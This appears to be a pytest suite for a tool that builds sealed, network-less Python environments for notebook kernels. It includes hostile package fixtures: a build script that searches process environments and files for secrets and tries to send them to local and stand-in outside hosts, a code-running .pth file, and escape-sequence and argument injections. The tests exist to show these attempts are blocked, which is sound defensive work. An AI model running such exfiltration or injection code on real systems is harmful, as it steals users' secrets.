"""Environments: built with an index in reach and nothing else, sealed, and run without a network.

The packages come from an index that the test serves on 127.0.0.1, so that each can be as hostile as it likes.
"""

import calendar
import contextlib
import fcntl
import hashlib
import json
import os
import pathlib
import pwd
import re
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import urllib.parse
import uuid
import zipfile

import harness
import processes
import pytest
from environments import PYTHON, Index, Store, begin, building, index, left_over, page, shown_as, store, wheel  # noqa: F401


def test_from_a_private_index_to_a_kernel(site, store, index, launch):
    links = site.project()
    store.environment |= {"PIP_INDEX_URL": index.url.replace("//", "//me:s3cret@"), "PIP_FIND_LINKS": f"{links} ftp://me:s3cret@h/",
                          "PIP_EXTRA_INDEX_URL": f"{index.url}?token=s3cret {index.url}/s3cret/simple"}
    made = store.create("course", "plain==1.0")
    assert made.returncode == 0, made.stdout + made.stderr
    assert "reached 127.0.0.1" in made.stdout and "blocked" not in made.stdout
    shown = store.record("course")
    # who built it, when, from what; no password is kept anywhere
    record, me = shown["record"], pwd.getpwuid(os.geteuid()).pw_name
    assert (record["by"], record["requirements"], record["python"]) == (me, "plain==1.0\n", PYTHON)
    host = index.url.removesuffix("/simple")
    assert record["sources"] == [host, host, host, str(links.resolve())]
    assert "find-links: ftp://h is not there" in made.stderr and "s3cret" not in made.stderr
    assert abs(time.time() - calendar.timegm(time.strptime(record["created"], "%Y-%m-%dT%H:%M:%SZ"))) < 3600
    said = store.env("show", "course").stdout
    assert f"-> generation 1, {record['created']} by {me}, tree " in said and f"packages came from {host}\n" in said
    assert "s3cret" not in said
    assert not [path for path in store.place.rglob("*") if path.is_file() and b"s3cret" in path.read_bytes()]
    assert [(p["name"], p["version"], p["licence"]) for p in shown["packages"]] == [("plain", "1.0", "MIT")]
    assert shown["record"]["reached"][0]["host"] == "127.0.0.1"
    assert left_over(store) == []
    tree = store.tree("course")
    module = next(tree.glob("lib/python3*/site-packages/plain.py"))
    assert module.stat().st_mode & 0o777 == 0o444 and module.parent.stat().st_mode & 0o777 == 0o555
    assert store.env("verify", "course").returncode == 0
    # and a kernel of it has no network, reads it and cannot change it
    code = (
        "import plain, sys, socket\n"
        "out = [plain.version, sys.prefix, bool(plain.__cached__)]\n"
        "for attempt in (lambda: open(plain.__file__, 'a'), lambda: socket.create_connection((%r, %d), 2)):\n"
        "    try:\n        attempt(); out.append('done')\n"
        "    except OSError as error:\n        out.append(type(error).__name__)\n"
        "print(*out, flush=True)\n" % index.server.server_address
    )
    kernel = ("/env/bin/python", "-c", code, "{inner_connection_file}")
    project = site.project()
    started = launch(*kernel, options=("--env", "course", "--verify"), cwd=project, env={**site.environment, **store.environment})
    started.wait(30)
    assert re.search(r"1\.0 /env True (OSError|PermissionError) ConnectionRefusedError", started.log), started.log
    # a lock is enough to make the same again, elsewhere
    lock = site.root / "course.lock"
    lock.write_text(store.env("show", "course", "--lock", check=True).stdout)
    other = Store(site, index, store.data.name + "-other")
    again = other.create("again", "--lock", "-r", str(lock))
    assert again.returncode == 0, again.stdout + again.stderr
    assert other.record("again")["record"]["tree"] == shown["record"]["tree"]


def advisory(name, package, events, **more):
    affected = {"package": {"ecosystem": "PyPI", "name": package}, "ranges": [{"type": "ECOSYSTEM", "events": events}]}
    return {"id": name, "modified": "2026-01-01T00:00:00Z", "summary": name + " summary", "affected": [affected], **more}


def test_what_it_consists_of(site, store, index):
    """Sizes, and advisories: the ranges of PEP 440, of a file, a directory and an archive; nothing is imported."""
    trap = f"open({str(site.root / 'imported')!r}, 'w')\n"
    index.files["Dotted_Name-2.0rc1+local.1-py3-none-any.whl"] = wheel("Dotted_Name", "2.0rc1+local.1", {"dotted.py": trap + "#" * 5000})
    made = store.create("a", "plain==1.0", "dotted-name==2.0rc1+local.1")
    assert made.returncode == 0, made.stdout + made.stderr
    shown = {package["name"]: package for package in store.record("a")["packages"]}
    assert shown["dotted-name"]["version"] == "2.0rc1+local.1" and 5000 < shown["dotted-name"]["size"] < 50000
    assert shown["plain"]["size"] < 5000 and shown["plain"]["modules"] == ["plain", "plain_data"]
    assert re.search(r"dotted-name +2\.0rc1\+local\.1 +[0-9.]+ kB +MIT", store.env("show", "a").stdout)
    hits = [
        advisory("H-1", "plain", [{"introduced": "0"}, {"fixed": "1.0.1"}], aliases=["CVE-1"]),
        advisory("H-2", "Plain", [{"introduced": "1"}, {"last_affected": "1.0.0"}]),
        advisory("H-3", "dotted.name", [{"fixed": "2.0"}, {"introduced": "1.9"}]),  # a pre-release is before its release
        advisory("H-4", "dotted_name", [{"introduced": "2.0rc1"}, {"last_affected": "2.0rc1"}]),  # a local version is none to it
        advisory("H-5", "plain", [], affected=[{"package": {"ecosystem": "PyPI", "name": "plain"}, "versions": ["1"]}]),
        advisory("H-6", "plain", [{"introduced": "0"}, {"fixed": "no version"}]),
        advisory("H-7", "plain", [{"introduced": "0"}, {"fixed": "0.5"}, {"introduced": "0.9"}]),
    ]
    misses = [
        advisory("M-1", "plain", [{"introduced": "0"}, {"fixed": "1.0"}]),
        advisory("M-2", "plain", [{"introduced": "1.0.post1"}]),
        advisory("M-3", "plain", [{"introduced": "0"}], withdrawn="2026-01-02T00:00:00Z"),
        advisory("M-4", "plain-other", [{"introduced": "0"}]),
        advisory("M-5", "plain", [], affected=[{"package": {"ecosystem": "npm", "name": "plain"}, "versions": ["1.0"]}]),
        advisory("M-6", "plain", [{"introduced": "0"}, {"limit": "1.0"}]),
        advisory("M-7", "dotted-name", [{"introduced": "2.0"}]),
        advisory("M-8", "dotted-name", [{"introduced": "0"}, {"fixed": "2.0b9"}, {"introduced": "1!0"}]),
        advisory("M-9", "plain", [{"introduced": "0"}, {"fixed": "0.5"}, {"introduced": "1.10"}]),
    ]
    place = site.root / (store.data.name + "-advisories")
    (place / "deep").mkdir(parents=True, exist_ok=True)
    for one in hits:
        (place / "deep" / (one["id"] + ".json")).write_text(json.dumps(one))
    (place / "list.json").write_text(json.dumps(misses))
    archive = site.root / (store.data.name + ".zip")
    with zipfile.ZipFile(archive, "w") as out:
        for one in hits + misses:
            out.writestr(one["id"] + ".json", json.dumps(one))
    for database in (place, archive):
        audit = store.env("audit", "a", "--advisories", str(database), "--json")
        assert audit.returncode == 1, audit
        found = json.loads(audit.stdout)
        assert sorted(one["id"] for one in found["found"]) == [one["id"] for one in hits], found
        assert {one["id"] for one in found["found"] if not one["certain"]} == {"H-6"} and found["advisories"] == 15
    text = store.env("audit", "a", "--advisories", str(place)).stdout
    assert "plain 1.0: H-1 (CVE-1): H-1 summary; fixed in 1.0.1\n" in text and "7 advisories for 2 packages" in text
    # the archive of osv.dev: very many, of other packages, each with more than is looked at
    with zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as out:
        for number in range(3000):
            events = [{"introduced": "0"}, {"fixed": f"{number}.1"}]
            out.writestr(f"GHSA-{number:04}-x.json", json.dumps(advisory(
                f"GHSA-{number:04}-x", f"other-{number % 500}", events, schema_version="1.7.3", details="text\n" * 50,
                published="2025-01-01T00:00:00Z", severity=[{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
                references=[{"type": "WEB", "url": "https://example.org"}] * 5, database_specific={"cwe_ids": ["CWE-79"], "severity": "HIGH"})))
    found = json.loads(store.env("audit", "a", "--advisories", str(archive), "--json").stdout)
    assert sorted(one["id"] for one in found["found"]) == [one["id"] for one in hits] and found["advisories"] == 3015, found
    # the list of parts is in CycloneDX's form: tests/pypi/run compares it with the schema
    document = json.loads(store.env("show", "a", "--sbom", check=True).stdout)
    assert set(document) == {"bomFormat", "specVersion", "version", "metadata", "components"} and document["version"] == 1
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", document["metadata"]["timestamp"])
    assert document["metadata"]["component"] == {"type": "application", "name": "a", "version": store.record("a")["record"]["tree"]}
    parts = {part.pop("bom-ref"): part for part in document["components"]}
    for part in parts.values():
        assert re.fullmatch("[0-9a-f]{64}", part.pop("hashes")[0]["content"]) and part.pop("licenses") == [{"license": {"name": "MIT"}}]
    assert parts == {purl: {"type": "library", "name": name, "version": version, "purl": purl} for name, version, purl in (
        ("dotted-name", "2.0rc1+local.1", "pkg:pypi/dotted-name@2.0rc1%2Blocal.1"), ("plain", "1.0", "pkg:pypi/plain@1.0"))}
    none = store.env("audit", "a", "--advisories", str(place / "list.json"))
    assert none.returncode == 0 and "0 advisories for 2 packages, of 8 looked at" in none.stdout, none
    # what cannot be looked up is no good news
    for name, content in (("empty.json", "[]"), ("broken.json", "{"), ("npm.json", json.dumps(misses[4]))):
        (site.root / name).write_text(content)
        failed = store.env("audit", "a", "--advisories", str(site.root / name))
        assert failed.returncode == 1 and failed.stderr and not failed.stdout, failed
    assert store.env("audit", "a").returncode == 2
    assert not (site.root / "imported").exists()


SAYING = """
import os, sys
for word in sys.argv[2:]:
    try:
        os.chroot("cellwall\\timported\\t" + word + "\\t\\t")
    except OSError:
        pass
"""


def test_what_was_imported(site, store, index, launch):
    """The smallest requirements that bring what kernels said; their word is names and nothing else."""
    needs = "Requires-Dist: {}\n"
    for name, lines in {
        "top": needs.format("middle[fast]>=1") + needs.format('never; python_version < "3"'),
        "middle": needs.format('leaf; extra == "fast"') + needs.format("top"),  # and they need each other
        "leaf": "", "lone": needs.format("leaf"), "idle": "",
    }.items():
        index.files[f"{name}-1-py3-none-any.whl"] = wheel(name, "1", {f"{name}_module/__init__.py": ""}, lines)
    index.files["never-1-py3-none-any.whl"] = wheel("never", "1", {"never.py": ""})
    store.create("u", "top", "lone", "idle", "never").check_returncode()
    none = store.env("usage", "u")
    assert none.returncode == 1 and "has said yet" in none.stderr
    hostile = "../../x \x1b]0;x json os.path " + "y" * 100
    for words in (["top_module leaf_module json", hostile], ["middle_module lone_module", "elsewhere"]):
        started = launch("/env/bin/python", "-c", SAYING, "{inner_connection_file}", *words, options=("--env", "u"),
                         cwd=site.project(), env={**site.environment, **store.environment})
        started.wait(30)
        assert "blocked" not in started.log, started.log
    usage = json.loads(store.env("usage", "u", "--json", check=True).stdout)
    assert usage["runs"] == 2 and sorted(usage["modules"]) == sorted(
        ["elsewhere", "json", "leaf_module", "lone_module", "middle_module", "top_module"])
    assert usage["found"] == {"used": ["leaf", "lone", "middle", "top"], "unused": ["idle", "never"], "unknown": ["elsewhere"],
                              "requirements": ["lone==1", "top==1"]}, usage
    listed = site.root / "used.txt"
    listed.write_text(store.env("usage", "u", check=True).stdout)
    made = store.create("smaller", "-r", str(listed))
    assert made.returncode == 0, made.stdout + made.stderr
    assert {package["name"] for package in store.record("smaller")["packages"]} == {"top", "middle", "leaf", "lone"}
    # who took it away starts anew
    store.env("remove", "u", check=True)
    assert not (store.place / "usage" / "u.json").exists()


def test_generations(site, store):
    store.create("g", "plain==1.0").check_returncode()
    first = store.record("g")["record"]["tree"]
    assert "there is an environment" in store.create("g", "plain").stderr
    module = next(store.tree("g").glob("lib/python3*/site-packages/plain_data/d.txt"))
    updated = store.env("update", "g", "plain")
    assert updated.returncode == 0, updated.stdout + updated.stderr
    assert store.env("diff", "g").stdout == "plain 1.0 -> 2.0\n"
    # what both have is there once, and goes with the last of them
    assert next(store.tree("g").glob("lib/python3*/site-packages/plain_data/d.txt")).samefile(module)
    assert {part.stat().st_nlink for part in (store.tree("g").parent / "parts").iterdir()} == {2, 3}  # of a tree and the pool
    store.env("rollback", "g", check=True)
    assert store.record("g")["record"]["tree"] == first
    # to a file and back: the same tree, wherever it is read
    file = site.root / "g.bundle"
    file.unlink(missing_ok=True)
    store.env("export", "g", str(file), check=True)
    other = Store(site, Index(), store.data.name + "-import")
    other.env("import", "h", str(file), check=True)
    assert other.record("h")["record"]["tree"] == first and other.env("verify", "h").returncode == 0
    # what else a bundle says of itself is believed no more than its tree: a lock is a lock and nothing else
    whole = file.read_bytes()
    head = whole.index(b"plain==1.0")
    for hostile in (b"\x1b]52;;x\x07", b"--index-u", b"x @ http:/"):
        file.write_bytes(whole[:head] + hostile[:10].ljust(10, b"x") + whole[head + 10 :])
        refused = other.env("import", "lock", str(file))
        assert refused.returncode == 1 and "a lock that is not taken" in refused.stderr, refused
    file.write_bytes(whole[:-100])
    assert other.env("import", "cut", str(file)).returncode == 1
    # three generations before the current one are kept, and any that is there can be the current one
    file.write_bytes(whole)
    for _ in range(5):
        other.env("import", "h", str(file), check=True)
    other.env("gc", check=True)
    said = other.env("show", "h").stdout
    assert "\nimported: " in said and "imported: " not in store.env("show", "g").stdout
    assert re.findall(r"^(..) generation (\d)", said, re.M) == [("  ", "3"), ("  ", "4"), ("  ", "5"), ("->", "6")]
    for number, current in (("4", "4"), ("2", "4"), ("x", "4"), ("0", "4"), ("5", "5")):
        assert (other.env("rollback", "h", number).returncode == 0) == (number == current), number
        assert (other.place / "names/h/current").read_text().strip() == current
    with (other.place / "names/.lock-h").open() as lock:  # as a build has it
        fcntl.flock(lock, fcntl.LOCK_EX)
        refused = other.env("rollback", "h", "4")
        assert refused.returncode == 1 and '"h" is being built or changed' in refused.stderr
    store.env("remove", "g", check=True)
    assert list((store.place / "trees").iterdir()) == [] and not [*(store.place / "files").glob("*/*")] and "g  " not in store.env("list").stdout


def changed(path, data):
    """Other bytes under the same mode."""
    mode = path.stat().st_mode & 0o7777
    path.chmod(0o600)
    path.write_bytes(data)
    path.chmod(mode)


def test_a_changed_byte_goes_into_no_bundle_and_out_of_none(site, store):
    store.create("b", "plain==1.0").check_returncode()
    file, other = site.root / "b.bundle", Store(site, Index(), store.data.name + "-import")
    file.unlink(missing_ok=True)
    store.env("export", "b", str(file), check=True)
    whole = file.read_bytes()
    # the kind of a record, and the last byte: of a module, a name, a link, the lock's and the record's words, what the record says
    words = (b"f\x0a\0pyvenv.cfg", b"d\3\0bin", b"m\6\0record")
    ends = (b"version = '1", b"plain_data/d.t", PYTHON.encode(), b"plain==1", b"m\4\0lo", b"m\6\0rec", b'"requirements":"p', b'"tree":"', b"record.sha2")
    places = [whole.index(word) for word in words] + [whole.index(word) + len(word) - 1 for word in ends]
    places += [whole.index(b"record.sha256") + 13 + 8, 5, len(whole) - 1]
    for place in places:
        file.write_bytes(whole[:place] + bytes([whole[place] ^ 1]) + whole[place + 1 :])
        refused = other.env("import", "b", str(file))
        assert refused.returncode == 1 and refused.stderr.count("\n") == 1 and not refused.stdout, (place, refused)
        assert left_over(other) == [] and not (other.place / "names" / "b").exists()
    file.write_bytes(whole)
    other.env("import", "b", str(file), check=True)
    assert other.record("b")["record"]["tree"] == store.record("b")["record"]["tree"]
    # and what was changed here is not written
    file.unlink()
    tree = store.tree("b")
    for path in (next(tree.glob("lib/python3*/site-packages/plain.py")), tree.parent / "lock", tree.parent / "manifest", tree.parent / "parts/1"):
        data = path.read_bytes()
        changed(path, data[:-2] + bytes([data[-2] ^ 1]) + data[-1:])
        refused = store.env("export", "b", str(file))
        assert refused.returncode == 1 and refused.stderr.count("\n") == 1, (path, refused)
        assert "cellwall env verify b says what changed" in refused.stderr and not list(site.root.glob("b.bundle*"))
        changed(path, data)
    store.env("export", "b", str(file), check=True)
    assert file.read_bytes() == whole


@pytest.mark.skipif(os.geteuid() != 0, reason="only root mounts a small disk")
def test_a_disk_that_is_full(site, store):
    """Whatever it is that has no room: one line, nothing is there, and with more room it is. Builds meet one in test_env_faults.py."""
    store.create("d", "plain==1.0").check_returncode()
    file, small = site.root / "d.bundle", Store(site, Index(), store.data.name + "-small")
    file.unlink(missing_ok=True)
    store.env("export", "d", str(file), check=True)
    small.data.mkdir()
    for form, step in (("size=1m,nr_inodes={}", 5), ("nr_inodes=1k,size={}k", 8)):
        refused = 0
        subprocess.run(["mount", "-t", "tmpfs", "-o", form.format(step) + ",mode=755", "tmpfs", small.data], check=True, timeout=30)
        try:
            for room in range(step, 400, step):
                subprocess.run(["mount", "-o", "remount," + form.format(room), small.data], check=True, timeout=30)
                made = small.env("import", "d", str(file))
                if made.returncode == 0:
                    break
                refused += 1
                assert made.returncode == 1 and made.stderr.count("\n") == 1 and "No space left" in made.stderr, made
                assert left_over(small) == [] and not [*small.place.glob("names/*/*")], room
            assert refused > 2, (form, refused)
            small.env("verify", "d", check=True)
            assert small.record("d")["record"]["tree"] == store.record("d")["record"]["tree"]
            small.env("remove", "d", check=True)
            assert not [*small.place.glob("trees/*"), *small.place.glob("files/*/*")]
        finally:
            subprocess.run(["umount", small.data], check=True, timeout=30)


def test_a_kernel_that_runs_keeps_its_tree(site, store, launch):
    """Of the environment that was changed and taken away since, until the last of them ends."""
    store.create("r", "plain==1.0").check_returncode()
    tree = store.tree("r")
    kernel = ("/env/bin/python", "-c", "import plain, time\nprint('has', plain.version, flush=True)\ntime.sleep(1000)", "{inner_connection_file}")
    started = [launch(*kernel, options=("--env", "r"), cwd=site.project(), env={**site.environment, **store.environment}) for _ in range(2)]
    for one in started:
        assert processes.wait_until(lambda: "has 1.0" in one.log, 60 * harness.PATIENCE), one.log  # noqa: B023
    store.env("update", "r", "plain", check=True)
    store.env("remove", "r", check=True)
    for one in started:
        assert (tree / "pyvenv.cfg").exists() and list(tree.parent.parent.iterdir()) == [tree.parent]
        one.process.terminate()
        assert one.wait(60) is not None
        store.env("gc", check=True)
    assert not tree.exists() and not [*(store.place / "files").glob("*/*")]


def test_every_changed_byte_is_found(site, store, launch):
    store.create("t", "plain").check_returncode()
    tree = store.tree("t")
    # --verify has an eye on what cells had installed too, which is named by the folder, the environment and its Python
    folder = site.project()
    added = "notebook-" + hashlib.sha256(f"{folder.resolve()}\nt\n{os.path.realpath(PYTHON)}".encode()).hexdigest()[:16]
    store.create(added, "plain==1.0").check_returncode()
    module = next(store.tree(added).glob("lib/python3*/site-packages/plain.py"))
    data = module.read_bytes()
    policy = site.policy({"install": "allow"})
    for content, verify, runs in ((data, ["--verify"], True), (data.replace(b"1", b"2"), [], True), (data.replace(b"1", b"2"), ["--verify"], False)):
        changed(module, content)
        started = launch("/env/bin/python", "-c", "print('ran')", "{inner_connection_file}", cwd=folder,
                         options=("--env", "t", *verify, "--policy", policy), env={**site.environment, **store.environment})
        started.wait(30)
        assert ("ran\n" in started.log) == runs and (f'"{added}" is not as it was sealed' in started.log) != runs, started.log
    module = next(tree.glob("lib/python3*/site-packages/plain.py"))
    text = module.read_bytes()
    os.chmod(module, 0o644)
    module.write_bytes(text.replace(b"2", b"3"))
    os.chmod(module, 0o444)
    found = store.env("verify", "t")
    assert found.returncode == 1 and "plain.py has other bytes" in found.stdout
    started = launch("/env/bin/python", "-c", "print('ran')", "{inner_connection_file}", options=("--env", "t", "--verify"),
                     env={**site.environment, **store.environment})
    started.wait(30)
    assert "ran" not in started.log and "not as it was sealed" in started.log
    os.chmod(module.parent, 0o755)
    (module.parent / "more.pth").write_text("import os")
    module.unlink()
    found = store.env("verify", "t").stdout
    assert "more.pth was not built" in found and "plain.py is missing" in found
    lock = tree.parent / "lock"
    text = lock.read_text()
    os.chmod(lock, 0o644)
    lock.write_text(text.replace("2.0", "1.0"))
    assert "lock has other bytes" in store.env("verify", "t").stdout
    part = next(path for path in (tree.parent / "parts").iterdir() if b"plain.py" in path.read_bytes())
    text = part.read_bytes()
    os.chmod(part, 0o644)
    part.write_bytes(text.replace(b"plain.py", b"plaim.py"))
    assert f"parts/{part.name} has other bytes" in store.env("verify", "t").stdout
    # building it anew mends it, although the same packages are the same tree
    assert store.env("update", "t").returncode == 0
    store.env("verify", "t", check=True)


def test_nobody_else_locks_or_reads(site, store):
    """What every account can open of a shared store stops nobody; what everybody can read holds no password."""
    store.create("l", "plain").check_returncode()
    directory = os.open(store.tree("l"), os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(directory, fcntl.LOCK_EX)
    try:
        store.env("show", "l", check=True)
    finally:
        os.close(directory)
    listed = site.root / "secret-requirements.txt"
    listed.write_text("--extra-index-url https://me:secret@index.example/simple\nplain\n")
    refused = store.create("s", "-r", str(listed))
    assert refused.returncode == 1 and "password" in refused.stderr and not (store.place / "names" / "s").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="root has the shared store")
def test_what_root_builds_everybody_uses(site, store, index, launch):
    """Whatever root's umask: another account lists, reads, installs and runs it. The shared store is an empty one, in a mount namespace."""
    index.files["ipykernel-1-py3-none-any.whl"] = wheel("ipykernel", "1", {"ipykernel.py": ""})
    account = pathlib.Path(tempfile.mkdtemp(prefix="cwt-", dir="/var/tmp"))
    os.chown(account, 65534, 65534)
    (account / "work").mkdir()
    os.chown(account / "work", 65534, 65534)
    place = subprocess.Popen(["unshare", "--mount", "sh", "-c", "mount -t tmpfs -o mode=755 tmpfs /var/lib && echo done && read end"],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert place.stdout.readline() == "done\n"
        enter = ["nsenter", f"--mount=/proc/{place.pid}/ns/mnt"]
        other = [*enter, "env", "-C", str(account / "work"), "setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
        environment = {**site.environment, **store.environment}
        del environment["XDG_DATA_HOME"]
        mine = {**environment, "HOME": str(account), **dict.fromkeys(("TMPDIR", "XDG_RUNTIME_DIR", "XDG_STATE_HOME", "XDG_CONFIG_HOME"), str(account))}

        def run(*words, program=other, env=mine):
            result = subprocess.run([*program, site.cellwall, *words], env=env, umask=0o077, capture_output=True, text=True,
                                    timeout=120 * harness.PATIENCE, check=False)
            assert result.returncode == 0, (words, result.stdout, result.stderr)
            return result.stdout

        run("env", "create", "everybodys", "--python", PYTHON, "plain==1.0", program=enter, env=environment)
        run("env", "update", "everybodys", "plain==2.0", program=enter, env=environment)
        run("env", "rollback", "everybodys", program=enter, env=environment)
        # what it writes elsewhere is for the umask to say
        file = site.root / "everybodys.bundle"
        run("env", "export", "everybodys", str(file), program=enter, env=environment)
        assert file.stat().st_mode & 0o077 == 0
        assert re.search(r"^everybodys +generation 1 .*\(shared\)$", run("env", "list"), re.M)
        assert re.search(r"^  plain +1\.0 ", run("env", "show", "everybodys"), re.M)
        assert "as it was sealed" in run("env", "verify", "everybodys")
        run("install", "--env", "everybodys", "--prefix", str(account))
        connection = account / "kernel.json"
        harness.write_connection_file(connection, "ipc")
        os.chown(connection, 65534, 65534)
        code = "import os, plain\nprint('has', plain.version, flush=True)"
        started = launch("/env/bin/python", "-c", code, "{inner_connection_file}", options=("--env", "everybodys", "--verify"), wrapper=other,
                         connection=connection, cwd=account / "work", env=mine)
        assert started.wait(30) is not None and "has 1.0" in started.log, started.log
    finally:
        place.stdin.close()
        place.wait(30)
        shutil.rmtree(account)


# What a build says is what it saw: a word that is put together here, so that no file of the build itself has it.
SEARCH = """
import os, socket, urllib.request
word, here = {word!r}[::-1], {here!r}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open("/proc/" + pid + "/environ", "rb") as file:
            seen += ["variable"] * (word.encode() in file.read())
    except OSError:
        pass
for top in here or ["/"]:
    for place, names, files in os.walk(top):
        if not here:
            names[:] = [name for name in names if os.path.join(place, name) not in ("/proc", "/sys", "/usr")]
        for path in (os.path.join(place, name) for name in files):
            try:
                if os.path.isfile(path):
                    with open(path, errors="replace") as file:
                        seen += [os.path.basename(path)] * (word in file.read(65536))
            except OSError:
                pass
for path in {paths!r}:
    seen += ["there"] * os.path.exists(path)
for target in (("127.0.0.1", {port}), ("203.0.113.9", 80)):
    try:
        if not here or target[0] == "127.0.0.1":
            socket.create_connection(target, 2).sendall(b"stolen")
            seen.append("reached")
    except OSError as error:
        seen.append(type(error).__name__)
if not here:
    for url in ("http://127.0.0.1:{port}/stolen", "http://203.0.113.9/"):
        try:
            urllib.request.urlopen(url, timeout=100)
        except OSError as error:
            seen.append(str(error))
    for i in range(80):
        with socket.create_connection(("127.0.0.1", 3128), 20) as way:
            way.sendall(b"CONNECT files%d.example:443 HTTP/1.1\\r\\n\\r\\n" % i)
            seen.append(way.recv(12).decode())
"""


def test_a_build_script_sees_and_reaches_nothing(site, store, index):
    """A word that is in the caller's variables, home and staged file, and a listener: outside the same code finds all of them."""
    reached, word = [], "canary-" + uuid.uuid4().hex
    project, hidden = site.project(), site.home / "canary.txt"
    (project / "staged.txt").write_text(word)
    hidden.write_text(word)
    site.run("stage", "add", "staged.txt", check=True, cwd=project)
    store.environment["CANARY"] = word
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    done = threading.Event()

    def listen():
        while not done.is_set():
            with contextlib.suppress(TimeoutError):
                reached.append(listener.accept())

    thread = threading.Thread(target=listen)
    thread.start()
    try:
        about = {"word": word[::-1], "paths": [str(hidden), str(project / "staged.txt"), "/work/staged.txt"], "port": listener.getsockname()[1]}
        outside = "seen = []\n" + SEARCH.format(here=[str(site.home), str(project)], **about) + "print(*sorted(seen))"
        direct = subprocess.run([PYTHON, "-c", outside], check=True, timeout=60, capture_output=True, text=True,
                                env={**site.environment, **store.environment})
        assert {"canary.txt", "reached", "staged.txt", "there", "variable"} <= set(direct.stdout.split()), direct
        assert processes.wait_until(lambda: reached, 10 * harness.PATIENCE)
        reached.clear()
        index.files["hostile-1.tar.gz"] = building("hostile", "1", SEARCH.format(here=[], **about))
        made = store.env("create", "hostile", "--python", PYTHON, "--no-kernel", "hostile", cwd=project)
    finally:
        done.set()
        thread.join()
        listener.close()
        hidden.unlink()
    assert reached == [] and made.returncode == 0, made.stdout + made.stderr
    names = {}
    exec(next(store.tree("hostile").glob("lib/python3*/site-packages/hostile.py")).read_text(), names)
    assert names["seen"] == ["ConnectionRefusedError", "OSError", *["HTTP Error 403: Forbidden"] * 2, *["HTTP/1.1 403"] * 80], names["seen"]
    for place in (f"127.0.0.1 port {about['port']}", "203.0.113.9 port 80", "files0.example port 443"):
        assert f"blocked: the build tried to reach {place} (refused)" in made.stdout, made.stdout
    assert "blocked: the build tried to connect 203.0.113.9" in made.stdout, made.stdout
    assert re.search(r"blocked: \d\d more attempts, for which", made.stdout), made.stdout
    assert re.search(r"the build was refused files0\.example port 443, the last time 2\d\d\d-.*Z\n", store.env("show", "hostile").stdout)


TUNNEL = """
import socket, ssl
for name in {names}:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    way = socket.create_connection(("127.0.0.1", 3128), 20)
    way.sendall(b"CONNECT localhost:{port} HTTP/1.1\\r\\n\\r\\n")
    answer = b""
    while b"\\r\\n\\r\\n" not in answer:
        answer += way.recv(1)
    try:
        if name == "plain":
            way.sendall(b"GET /said-by-plain HTTP/1.0\\r\\n\\r\\n")
            seen.append("reached" if way.recv(1) else "closed")
            continue
        inner = context.wrap_socket(way, server_hostname=name)
        inner.sendall(b"GET /said-as-" + str(name).encode() + b" HTTP/1.0\\r\\n\\r\\n")
        seen.append("reached" if inner.recv(1) else "closed")
    except OSError as error:
        seen.append("closed")
"""


def test_a_tunnel_leads_to_the_host_it_was_asked_for(site, store):
    """At the index's address others may be served, by the name in TLS: a build that says another name goes nowhere."""
    certificate = site.root / "index.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost", "-addext",
                    "subjectAltName=DNS:localhost", "-keyout", certificate, "-out", site.root / "index.crt"], check=True,
                   capture_output=True, timeout=60)
    with certificate.open("a") as out:
        out.write((site.root / "index.crt").read_text())
    index = Index(certificate)
    try:
        code = TUNNEL.format(names=repr(["localhost", "other.example", None, "plain"]), port=index.server.server_port)
        index.files["tunnel-1.tar.gz"] = building("tunnel", "1", code)
        store.environment |= {"PIP_INDEX_URL": index.url, "PIP_CERT": str(site.root / "index.crt")}
        made = store.create("tunnel", "tunnel")
        assert made.returncode == 0, made.stdout + made.stderr
        module = next(store.tree("tunnel").glob("lib/python3*/site-packages/tunnel.py")).read_text()
        assert module == "seen = ['reached', 'closed', 'closed', 'closed']", module
        assert {path for path in index.asked if "said" in path} == {"/said-as-localhost"}
        assert "blocked: the build tried to reach other.example port" in made.stdout, made.stdout
        assert "blocked: the build tried to reach localhost port" in made.stdout, made.stdout
    finally:
        index.close()


def test_hostile_names(site, store, index):
    for name, files in {
        "newline": {"a\nb.py": ""},
        "escape": {"a\x1b[2Jb.py": ""},
    }.items():
        index.files[f"{name}-1-py3-none-any.whl"] = wheel(name, "1", files)
        made = store.create(name, name)
        assert made.returncode == 1 and "\x1b" not in made.stdout + made.stderr, made.stdout
        assert left_over(store) == [] and not (store.place / "names" / name).exists()
    # outside its own place pip itself puts nothing, and a .pth file is but a file
    index.files["pth-1-py3-none-any.whl"] = wheel(
        "pth", "1", {"p.pth": f"import os; os.mkdir({str(site.root / 'pth-ran')!r})\n", "x.py": ""}
    )
    made = store.create("pth", "pth")
    assert made.returncode == 0, made.stdout + made.stderr
    store.env("verify", "pth", check=True)
    document = json.loads(store.env("show", "pth", "--sbom", check=True).stdout)
    [part] = document["components"]
    assert (document["bomFormat"], document["specVersion"], part["purl"]) == ("CycloneDX", "1.5", "pkg:pypi/pth@1")
    digest = hashlib.sha256(index.files["pth-1-py3-none-any.whl"]).hexdigest()
    assert part["hashes"] == [{"alg": "SHA-256", "content": digest}] and part["licenses"] == [{"license": {"name": "MIT"}}]
    assert not (site.root / "pth-ran").exists()


def test_the_policy_narrows_builds(site, store, index):
    policy = site.root / "build-policy.json"
    port = index.server.server_port

    def create(name, build):
        policy.write_text(json.dumps({"build": build}))
        index.asked.clear()
        return store.create(name, "plain", "--policy", str(policy))

    refused = create("never", {"allow": False})
    assert refused.returncode == 1 and "build.allow" in refused.stderr and index.asked == []
    refused = create("elsewhere", {"hosts": ["pypi.org", f"127.0.0.1:{port + 1}"]})
    assert refused.returncode == 1 and index.asked == [], refused
    assert f"127.0.0.1 port {port} is not reached" in refused.stderr, refused.stderr
    assert left_over(store) == []
